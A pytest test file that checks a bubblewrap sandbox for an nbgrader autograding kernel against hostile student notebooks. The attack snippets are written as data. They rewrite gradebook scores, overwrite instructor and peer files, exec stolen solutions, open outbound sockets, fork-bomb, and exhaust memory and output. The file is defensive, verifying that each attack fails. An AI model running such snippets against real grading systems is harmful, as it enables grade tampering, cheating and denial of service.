"""The sandboxed grading kernel (collectives_grader/sandbox.py) against hostile notebooks.

One temporary course (cost_models released). An honest student (the spec's *partial*: right,
wrong and blank answers) is autograded first; then the course's instructor files are hashed
and the gradebook dumped, and a class of hostile students is autograded in one ``nbgrader
autograde`` run:

- ``intruder``, one attack per solution cell: walks up the parents of its working directory to
  rewrite gradebook.db; overwrites source/, the configuration and another student's
  submission; reads source/<assignment>/*.ipynb to execute the solutions; connects to a server
  of the grader's on 127.0.0.1 and to an outside address;
- ``exhauster``: allocates 8 GiB, prints 50 MB, forks without end;
- ``loopback``: a correct answer that first talks to itself over 127.0.0.1 (torch gloo needs it).

Each attack fails inside the sandbox and costs that student the task it sits in (0, with the
error in the autograded notebook), the run completes, the instructor's files and every
existing gradebook row are unchanged, and nobody reached the grader's server.

Then single sandboxes without nbgrader: the package copy's hash check, the refusal without
bwrap, torch gloo on the loopback, and each limit binding (CPU time, processes, the disk of the
working directory and /tmp, memory of all processes together).
tests/course/test_grading_classroom.py attacks the disk, memory and process limits from a
notebook in a class run.
"""

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from collectives_grader import sandbox

import assignments as specs
import nbgrader_helpers as h

ASSIGNMENT, NOTEBOOK = "cost_models", "ring_all_gather"
HONEST = ("partial",)  # graded before the attacks; must not change
_SOURCE = h.read(h.source_path(ASSIGNMENT, NOTEBOOK))
# the notebook's code solution cells, in order (read, not assumed): the attacks sit in them
SOLUTION_CELLS = tuple(
    g
    for g, c in h.cells_by_id(_SOURCE).items()
    if h.meta(c).get("solution") and c.cell_type == "code"
)
FIRST = SOLUTION_CELLS[0]
pytestmark = pytest.mark.slow

SANDBOX_CONFIG = '\nc.Execute.kernel_name = "collectives-sandbox"\n'

WALK_UP = "import pathlib\ncourse = pathlib.Path.cwd().parents[2]\n"
ATTACKS = {
    "gradebook": WALK_UP
    + """
import sqlite3
found = [p / "gradebook.db" for p in pathlib.Path.cwd().parents if (p / "gradebook.db").exists()]
if not found:
    raise FileNotFoundError("no gradebook.db above " + str(pathlib.Path.cwd()))
db = sqlite3.connect(found[0])
db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
db.commit()
""",
    "overwrite": WALK_UP
    + """
for target in [course / "source" / "cost_models" / "ring_all_gather.ipynb",
               course / "nbgrader_config.py",
               course / "submitted" / "correct" / "cost_models" / "ring_all_gather.ipynb",
               course / "autograded" / "correct" / "cost_models" / "ring_all_gather.ipynb"]:
    if not target.exists():
        raise FileNotFoundError(f"cannot see {target.relative_to(course)}")
    target.write_text("overwritten")
""",
    "steal": WALK_UP
    + """
import json
visible = sorted(str(p.relative_to(course)) for p in course.rglob("*"))
print("visible:", visible)
solutions = list(course.glob("source/*/*.ipynb")) + list(course.glob("submitted/*/*/*.ipynb"))
if not solutions:
    raise FileNotFoundError("no solutions to steal")
for path in solutions:
    for cell in json.loads(path.read_text())["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]))
""",
    "network": """
import socket
for address in [("127.0.0.1", GRADER_PORT), ("192.0.2.1", 80)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"escaped")
    except OSError as exc:
        print(address, type(exc).__name__, exc)
    else:
        print(address, "connected")
raise ConnectionError("no connection left the sandbox")
""",
    "forkbomb": """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as exc:
    raise RuntimeError(f"fork failed after {children} children: {exc}")
""",
    "memory": "hog = bytearray(8 * 2**30)\n",
    "flood": 'for _ in range(50):\n    print("x" * 10**6)\n',
}
LOOPBACK = """
import socket, threading
server = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: server.accept()[0].sendall(b"loopback works"), daemon=True).start()
assert socket.create_connection(server.getsockname()).recv(64) == b"loopback works"
"""
# the error each attack leaves in its cell (ename, text in the message)
ATTACK_ERRORS = {
    "gradebook": ("FileNotFoundError", "no gradebook.db above"),
    "overwrite": ("FileNotFoundError", "cannot see source/cost_models/ring_all_gather.ipynb"),
    "steal": ("FileNotFoundError", "no solutions to steal"),
    "network": ("ConnectionError", "no connection left the sandbox"),
    "memory": ("MemoryError", ""),
    "flood": None,  # no error: its output is cut
    "forkbomb": ("RuntimeError", "fork failed after"),
}
# two hostile students, one attack in each of their solution cells (in this order)
HOSTILE = {
    "intruder": ("gradebook", "overwrite", "steal", "network"),
    "exhauster": ("memory", "flood", "forkbomb"),
}
WHERE = {
    a: (student, cell)
    for student, attacks in HOSTILE.items()
    for a, cell in zip(attacks, SOLUTION_CELLS)
}


def attack(names, port):
    """A blank submission with the attacks ``names`` in its first solution cells."""
    return specs.submission(
        replaced={
            cell: ATTACKS[name].replace("GRADER_PORT", str(port))
            for name, cell in zip(names, SOLUTION_CELLS)
        }
    )


def loopback_then_correct(source, release):
    nb = specs.submission(solved=(FIRST,))(source, release)
    cell = h.cells_by_id(nb)[FIRST]
    cell.source = LOOPBACK + "\n" + cell.source
    return nb


def digest_tree(root, exclude=()):
    """{relative path: sha256} of the files under ``root`` (paths under ``exclude`` left out)."""
    root = Path(root)
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not any(p.relative_to(root).parts[: len(e)] == e for e in exclude)
    }


def dump_gradebook(path):
    """{table: set of rows} of a SQLite gradebook."""
    with sqlite3.connect(path) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {t: {tuple(row) for row in db.execute(f'SELECT * FROM "{t}"')} for t in tables}


def scores(course, student):
    """{grade_id: score} of a student's autograded notebook, from the gradebook."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        nb = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student)
        return {g.name: g.score for g in nb.grades}


def write_submissions(course, builders):
    source, release = course.source(ASSIGNMENT, NOTEBOOK), course.release(ASSIGNMENT, NOTEBOOK)
    for student, build in builders.items():
        folder = course.root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(build(h.copy_of(source), h.copy_of(release)), folder / f"{NOTEBOOK}.ipynb")
        (folder / "timestamp.txt").write_text("2026-01-15 10:00:00.000000 UTC")


class Listener:
    """A TCP server of the grader's on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.received.append(conn.recv(64))
            conn.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The course after the honest students, then the hostile class, were autograded."""
    sandbox.check_available()
    course = h.Course.create(tmp_path_factory.mktemp("sandbox"), [ASSIGNMENT])
    with open(course.root / "nbgrader_config.py", "a") as f:
        f.write(SANDBOX_CONFIG)
    spec = specs.load(ASSIGNMENT)
    honest = {s: spec.submissions[s][NOTEBOOK] for s in HONEST}
    write_submissions(course, honest)
    h.nbgrader(course.root, course.env, "autograde", ASSIGNMENT)
    instructor = digest_tree(course.root, exclude=(("gradebook.db",), (".grading", "answers")))
    gradebook = dump_gradebook(course.root / "gradebook.db")
    listener = Listener()
    hostile = {student: attack(names, listener.port) for student, names in HOSTILE.items()}
    hostile["loopback"] = loopback_then_correct
    write_submissions(course, hostile)
    proc = subprocess.run(
        [sys.executable, "-m", "nbgrader", "autograde", ASSIGNMENT],
        cwd=course.root,
        env=course.env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    listener.server.close()
    return dict(
        course=course,
        spec=spec,
        instructor=instructor,
        gradebook=gradebook,
        listener=listener,
        proc=proc,
        hostile=sorted(hostile),
    )


def test_the_hostile_class_is_graded_to_the_end(graded):
    proc = graded["proc"]
    assert proc.returncode == 0, proc.stdout + proc.stderr
    for student in graded["hostile"]:
        assert (
            graded["course"].root / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
        ).is_file(), student


def test_instructor_files_and_other_students_are_byte_for_byte_unchanged(graded):
    course = graded["course"]
    after = digest_tree(
        course.root,
        exclude=(("gradebook.db",),)
        + tuple((folder, s) for folder in ("submitted", "autograded") for s in graded["hostile"])
        + ((".grading", "answers"),),
    )  # the grader's own record of the written answers graded
    assert after == graded["instructor"]


def test_no_existing_gradebook_row_changed(graded):
    before = graded["gradebook"]
    after = dump_gradebook(graded["course"].root / "gradebook.db")
    for table, rows in before.items():
        assert rows <= after[table], (table, sorted(rows - after[table])[:3])


def test_honest_scores_are_exact(graded):
    spec, course = graded["spec"], graded["course"]
    tests = [
        g
        for g, c in h.cells_by_id(course.source(ASSIGNMENT, NOTEBOOK)).items()
        if h.meta(c).get("grade") and c.cell_type == "code"
    ]
    for student in HONEST:
        found = scores(course.root, student)
        assert {g: found[g] for g in tests} == {
            g: spec.expected[student][NOTEBOOK][g] for g in tests
        }, student


def autograded(graded, student):
    return h.read(graded["course"].root / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb")


@pytest.mark.parametrize("student", sorted(HOSTILE))
def test_hostile_students_score_zero(graded, student):
    assert scores(graded["course"].root, student) == dict.fromkeys(
        graded["spec"].points[NOTEBOOK], 0
    )


@pytest.mark.parametrize("name", [a for a in ATTACK_ERRORS if ATTACK_ERRORS[a]])
def test_each_attack_fails_in_its_cell_with_its_error(graded, name):
    student, cell = WHERE[name]
    errors = [
        (o.ename, o.evalue)
        for o in h.error_outputs(h.cells_by_id(autograded(graded, student))[cell])
    ]
    ename, text = ATTACK_ERRORS[name]
    assert len(errors) == 1 and errors[0][0] == ename and text in errors[0][1], errors


def test_nothing_reached_the_graders_server(graded):
    student, cell = WHERE["network"]
    printed = "".join(
        o.get("text", "") for o in h.cells_by_id(autograded(graded, student))[cell].outputs
    )
    assert "ConnectionRefusedError" in printed and "Network is unreachable" in printed, printed
    assert "connected" not in printed
    assert graded["listener"].received == []


def test_the_sandbox_shows_only_the_students_own_folder(graded):
    student, cell = WHERE["steal"]
    visible = "".join(
        o.get("text", "") for o in h.cells_by_id(autograded(graded, student))[cell].outputs
    )
    assert (
        f"visible: ['autograded', 'autograded/{student}', 'autograded/{student}/cost_models'"
    ) in visible, visible
    assert "gradebook" not in visible and "source" not in visible and "'submitted" not in visible


def test_output_flood_is_cut_with_a_note(graded):
    student, cell = WHERE["flood"]
    path = graded["course"].root / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    assert path.stat().st_size < 2 * sandbox.LIMITS.output_bytes
    outputs = h.cells_by_id(h.read(path))[cell].outputs
    assert "the rest of its output is dropped" in "".join(o.get("text", "") for o in outputs)


def test_loopback_works_inside_the_sandbox(graded):
    expected = dict.fromkeys(graded["spec"].points[NOTEBOOK], 0)
    expected["test_" + FIRST] = graded["spec"].points[NOTEBOOK]["test_" + FIRST]
    assert scores(graded["course"].root, "loopback") == expected


# ---- without bwrap ------------------------------------------------------------------------------


def test_snapshot_refuses_a_changed_copy(tmp_path):
    package = tmp_path / "pkg"
    (package / "sub").mkdir(parents=True)
    (package / "__init__.py").write_text("x = 1\n")
    (package / "sub" / "m.py").write_text("y = 2\n")
    snap = sandbox.PackageSnapshot(package)
    snap.verify()
    target = snap.root / "collectives" / "sub" / "m.py"
    target.chmod(0o644)
    target.write_text("y = 3\n")
    with pytest.raises(
        sandbox.SandboxError,
        match=r"copy of the collectives package changed "
        r"\(sub/m.py\)",
    ):
        snap.verify()
    target.write_text("y = 2\n")
    snap.verify()
    (snap.root / "collectives" / "planted.py").write_text("z = 0\n")
    with pytest.raises(sandbox.SandboxError, match=r"changed \(planted.py\)"):
        snap.verify()


def test_grading_refuses_to_start_without_bwrap_unless_opted_out(tmp_path):
    """A kernel of the sandbox's spec does not start when bwrap is missing; it does with the
    explicit opt-out."""
    code = (
        "import asyncio, sys\n"
        "from jupyter_client.manager import AsyncKernelManager\n"
        "async def main():\n"
        "    km = AsyncKernelManager(kernel_name='collectives-sandbox')\n"
        "    try:\n"
        "        await km.start_kernel()\n"
        "    except Exception as exc:\n"
        "        print('REFUSED', exc); return\n"
        "    print('STARTED'); await km.shutdown_kernel(now=True)\n"
        "asyncio.run(main())\n"
    )
    env = h.nbgrader_env(tmp_path)
    env["COLLECTIVES_BWRAP"] = str(tmp_path / "no-such-bwrap")
    proc = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120
    )
    assert "REFUSED the grading sandbox cannot run: bubblewrap" in proc.stdout, proc
    assert "COLLECTIVES_GRADING_SANDBOX=off" in proc.stdout
    env[sandbox.OPT_OUT] = "off"
    proc = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120
    )
    assert "STARTED" in proc.stdout, proc


def test_kernel_spec_names_the_sandbox_provisioner():
    from jupyter_client.kernelspec import KernelSpecManager

    spec = KernelSpecManager().get_kernel_spec(sandbox.KERNEL_NAME)
    assert spec.metadata["kernel_provisioner"]["provisioner_name"] == sandbox.KERNEL_NAME
    assert spec.interrupt_mode == "message"
    json.dumps(spec.to_dict())
    assert os.path.basename(spec.argv[0]).startswith("python")


_IN_A_SANDBOX_KERNEL = """
import asyncio, json, sys
from jupyter_client.manager import AsyncKernelManager
async def main():
    km = AsyncKernelManager(kernel_name="collectives-sandbox")
    await km.start_kernel(cwd=sys.argv[1])
    kc = km.client(); kc.start_channels()
    await kc.wait_for_ready(timeout=120)
    seen = []
    await kc.execute_interactive(sys.argv[2], timeout=300, output_hook=lambda m: seen.append(
        m["content"].get("text") or m["content"].get("evalue") or ""))
    kc.stop_channels(); await km.shutdown_kernel(now=True)
    print(json.dumps(seen))
asyncio.run(main())
"""


def printed_in_a_sandbox_kernel(tmp_path, cell):
    """What ``cell`` prints (and the error it raises) in a collectives-sandbox kernel started
    as nbgrader starts it, and the starting process's stderr."""
    work = tmp_path / "work"
    work.mkdir()
    proc = subprocess.run(
        [sys.executable, "-c", _IN_A_SANDBOX_KERNEL, str(work), cell],
        env=h.nbgrader_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=400,
    )
    return "".join(json.loads(proc.stdout.strip().splitlines()[-1])), proc.stderr[-2000:]


def test_torch_distributed_gloo_runs_inside_the_sandbox(tmp_path):
    """Four local gloo processes (collectives.dist.run) talk over the sandbox's loopback."""
    cell = """
import numpy as np, collectives as cl
x = np.arange(16, dtype=np.float32).reshape(4, 4)
out = cl.dist.run(cl.algorithms.ring_all_reduce(4), x, backend="gloo")
print("GLOO", bool(np.allclose(out, x.sum(0))), cl.__file__)
"""
    printed, stderr = printed_in_a_sandbox_kernel(tmp_path, cell)
    assert f"GLOO True {sandbox.PACKAGE_MOUNT}/collectives/__init__.py" in printed, (
        printed,
        stderr,
    )


def test_the_re_checks_use_the_sandboxs_read_only_package_as_it_is(tmp_path):
    """Inside the sandbox the package already is a read-only copy: a test cell's re-check
    (which reloads collectives.grading, and with it the registry of copies) imports it from
    the mount, and copies nothing to /tmp; a re-check still runs and still fails a wrong
    answer."""
    cell = """
import importlib, os, tempfile
import collectives.grading
_grading = importlib.reload(collectives.grading)
from collectives.grading.isolation import snapshot
print("COPY", snapshot.package_copy())
try:
    _grading.recheck(("check_close", (3.0, 4.0, "x")))
except AssertionError as exc:
    print("FAILED", str(exc)[:40])
print("TMP", sorted(n for n in os.listdir(tempfile.gettempdir()) if "collectives-package" in n))
"""
    printed, stderr = printed_in_a_sandbox_kernel(tmp_path, cell)
    assert f"COPY {sandbox.PACKAGE_MOUNT}\n" in printed, (printed, stderr)
    assert "FAILED" in printed and "TMP []" in printed, (printed, stderr)


def test_cpu_time_and_process_limits_bind_inside_the_sandbox(tmp_path):
    """A busy loop is stopped by the CPU-time limit; forks stop at the process limit."""
    import signal

    tmp_path.chmod(0o777)
    user = sandbox._KernelUser()
    try:
        limits = sandbox.Limits(cpu_seconds=1, processes=20)
        loop = sandbox.bwrap_command(
            ["/usr/bin/python3", "-c", "while True: pass"], tmp_path, tmp_path, tmp_path, user
        )
        proc = subprocess.run(
            loop, preexec_fn=sandbox._preexec(limits), timeout=60, capture_output=True
        )
        assert proc.returncode in (
            -signal.SIGXCPU,
            128 + signal.SIGXCPU,
            -signal.SIGKILL,
            128 + signal.SIGKILL,
        ), proc
        forks = sandbox.bwrap_command(
            [
                "/usr/bin/python3",
                "-c",
                (
                    "import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n"
                    "            time.sleep(30); os._exit(0)\n        n += 1\n"
                    "except OSError:\n    print(n)\n"
                ),
            ],
            tmp_path,
            tmp_path,
            tmp_path,
            user,
        )
        proc = subprocess.run(
            forks, preexec_fn=sandbox._preexec(limits), timeout=60, capture_output=True, text=True
        )
        assert 0 < int(proc.stdout) < 20, proc
    finally:
        user.release()


def test_disk_limit_and_read_only_files_inside_the_sandbox(tmp_path):
    """The working directory is a tmpfs of Limits.disk_bytes: nbgrader's files in it are
    readable but not writable, a symlink a student handed in is not followed on the grader's
    side, and new files stop at the limit (so does /tmp)."""
    work, private = tmp_path / "work", tmp_path / "private"
    work.mkdir()
    private.mkdir()
    (work / "answer.ipynb").write_text("handed in")
    (tmp_path / "gradebook.db").write_text("secret")
    (work / "link.db").symlink_to(tmp_path / "gradebook.db")
    for path in (tmp_path, work, private):
        path.chmod(0o777)
    code = """
import os
def fill(folder):
    written = 0
    try:
        for i in range(100):
            with open(os.path.join(folder, f"f{i}"), "wb", buffering=0) as f:
                written += f.write(b"x" * 2**20)
    except OSError as exc:
        return written // 2**20, exc.strerror
print(open("answer.ipynb").read())
for action in (lambda: open("answer.ipynb", "w"), lambda: open("link.db").read()):
    try:
        action()
    except OSError as exc:
        print(exc.strerror)
print(fill("."), fill("/tmp"))
"""
    user = sandbox._KernelUser()
    try:
        limits = sandbox.Limits(disk_bytes=8 * 2**20)
        command = sandbox.bwrap_command(
            ["/usr/bin/python3", "-c", code], work, private, tmp_path, user, limits
        )
        proc = subprocess.run(
            command, preexec_fn=sandbox._preexec(limits), timeout=60, capture_output=True, text=True
        )
    finally:
        user.release()
    # 8 MiB tmpfs, 1 MiB writes: 8 of them fit in each (the read-only files are mounts, not in
    # the tmpfs; the empty mount-point folders take no data blocks)
    assert proc.stdout.splitlines() == [
        "handed in",
        "Read-only file system",
        "No such file or directory",
        "(8, 'No space left on device') (8, 'No space left on device')",
    ], proc
    assert sorted(p.name for p in work.iterdir()) == ["answer.ipynb", "link.db"]
    assert (work / "answer.ipynb").read_text() == "handed in"


def test_memory_cgroup_limits_a_kernels_processes_together(tmp_path):
    """Three children of 96 MiB each, under a 192 MiB limit for the whole sandbox: the cgroup
    kills at least one of them (each alone is far below the per-process limit)."""
    group = sandbox.MemoryGroup(192 * 2**20)
    if group.path is None:
        pytest.skip(f"no memory cgroup here: {group.reason}")
    tmp_path.chmod(0o777)
    code = """
import os, time
pids = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = b"x" * (96 * 2**20)
        time.sleep(2)
        os._exit(0)
    pids.append(pid)
statuses = [os.waitpid(pid, 0)[1] for pid in pids]
print(sum(os.WIFSIGNALED(s) and os.WTERMSIG(s) == 9 for s in statuses))
"""
    user = sandbox._KernelUser()
    path = group.path
    try:
        command = sandbox.bwrap_command(
            ["/usr/bin/python3", "-c", code], tmp_path, tmp_path, tmp_path, user
        )
        proc = subprocess.run(
            command,
            preexec_fn=sandbox._preexec(sandbox.LIMITS, group),
            timeout=60,
            capture_output=True,
            text=True,
        )
    finally:
        user.release()
        group.remove()
    assert proc.stdout.strip() in ("1", "2", "3"), proc
    assert not path.exists()
